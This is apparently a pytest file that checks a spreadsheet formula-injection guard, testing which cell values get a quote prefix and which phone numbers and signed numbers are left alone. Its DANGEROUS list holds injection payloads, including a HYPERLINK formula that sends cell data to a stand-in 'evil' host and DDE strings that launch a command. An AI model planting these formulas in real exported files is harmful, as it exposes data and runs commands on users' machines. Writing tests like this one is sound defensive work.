"""The spreadsheet guard (formula injection): what is neutralised and what is kept as written."""

from __future__ import annotations

import pandas as pd
import pytest

from loyalloop.core.csvsafe import escape_formula, spreadsheet_safe

#: Text a spreadsheet would run (a function, a reference, DDE): prefixed with a quote.
DANGEROUS = [
    '=HYPERLINK("http://evil/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "+A1",
    "-A1*2",
    "+1-800-FLOWERS",
    "+86 138 0013 8000 ext=1",
    "\t=1",
    "\r=1",
    "＝1+1",
    "＋8613800138000",
    "-",
    "+",
    "-1%",
    "+1)",
]
#: Text that only looks like a formula: a phone number or a signed number, kept as written.
INERT = [
    "+8613800138000",
    "+86 138 0013 8000",
    "+86-138-0013-8000",
    "+1 (555) 123-4567",
    "+44 20 7946 0958",
    "-12.5",
    "+3",
    "-1,234.50",
    "-1e-3",
    "-.5",
]


@pytest.mark.parametrize("text", DANGEROUS)
def test_formulas_are_neutralised(text: str) -> None:
    assert escape_formula(text) == "'" + text


@pytest.mark.parametrize("text", INERT)
def test_phones_and_signed_numbers_are_kept(text: str) -> None:
    assert escape_formula(text) == text


def test_frames_column_by_column_match_the_cell_rule() -> None:
    texts = DANGEROUS + INERT + ["年费太贵", "", None]
    frame = pd.DataFrame(
        {
            "text": pd.Series(texts, dtype="str"),
            "mixed": pd.Series([*texts[:-1], 7], dtype=object),
            "score": [-0.5] * len(texts),
            "=bad header": ["ok"] * len(texts),
        }
    )
    safe = spreadsheet_safe(frame)
    expected = [escape_formula(t) if isinstance(t, str) else t for t in texts]
    assert safe["text"].tolist()[:-1] == expected[:-1] and pd.isna(safe["text"].iloc[-1])
    assert safe["mixed"].tolist() == [*expected[:-1], 7]
    assert safe["score"].tolist() == frame["score"].tolist()
    assert list(safe.columns) == ["text", "mixed", "score", "'=bad header"]
    assert frame["text"].iloc[0] == DANGEROUS[0]  # the input is not modified
